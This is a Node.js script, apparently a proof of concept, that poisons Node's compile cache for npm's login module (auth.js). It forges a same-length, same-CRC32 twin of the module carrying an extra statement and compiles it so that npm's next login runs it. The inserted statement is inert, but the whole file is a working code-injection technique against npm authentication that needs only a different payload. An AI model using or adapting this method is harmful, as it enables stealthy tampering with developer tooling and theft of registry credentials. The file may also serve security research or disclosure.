// SPDX-License-Identifier: Apache-2.0
// node keeps compiled code by a module's path, and takes it when the source's CRC and length fit. So compile a twin of
// npm's login module that has one more statement, the same length and the same CRC: node itself puts its code where
// npm's next login looks for it. npm's files are not touched. The statement sets a property that nobody reads.
'use strict'

const Module = require('node:module')
const { readFileSync } = require('node:fs')
const { dirname, join } = require('node:path')
const { crc32 } = require('node:zlib')

const MARK = "module.exports.simulation='inert'\n"
const KNOBS = 64

// A text as long as `source`, with `MARK` at its end, whose CRC is that of `source`. Room is made by dropping
// indentation; blanks and tabs after the end are the knobs by which the CRC is set.
const twin = (source) => {
  const short = `${source.replace(/^[ \t]+/gm, '').trimEnd()}\n${MARK}`
  const room = Buffer.byteLength(source) - Buffer.byteLength(short)
  if (room < KNOBS) return null
  const bytes = Buffer.from(short + ' '.repeat(room))
  const at = (knob) => bytes.length - 1 - knob
  const turn = (knob) => { bytes[at(knob)] ^= 0x20 ^ 0x09 }
  const rows = []
  const now = crc32(bytes)
  for (let knob = 0; knob < KNOBS; knob++) {
    turn(knob)
    let effect = BigInt((crc32(bytes) ^ now) >>> 0)
    turn(knob)
    let knobs = 1n << BigInt(knob)
    for (const row of rows) if (effect & row.top) { effect ^= row.effect; knobs ^= row.knobs }
    if (effect) rows.push({ effect, knobs, top: 1n << BigInt(effect.toString(2).length - 1) })
  }
  let missing = BigInt((now ^ crc32(Buffer.from(source))) >>> 0)
  let chosen = 0n
  for (const row of rows) if (missing & row.top) { missing ^= row.effect; chosen ^= row.knobs }
  if (missing) return null
  for (let knob = 0; knob < KNOBS; knob++) if (chosen >> BigInt(knob) & 1n) turn(knob)
  return bytes.toString()
}

const npm = dirname(dirname(process.env.npm_execpath))
const path = join(npm, 'lib', 'utils', 'auth.js')
const text = twin(readFileSync(path, 'utf8'))
if (text) {
  Module.enableCompileCache()
  const module = new Module(path, null)
  module.filename = path
  module.paths = Module._nodeModulePaths(dirname(path))
  module._compile(text, path)
}
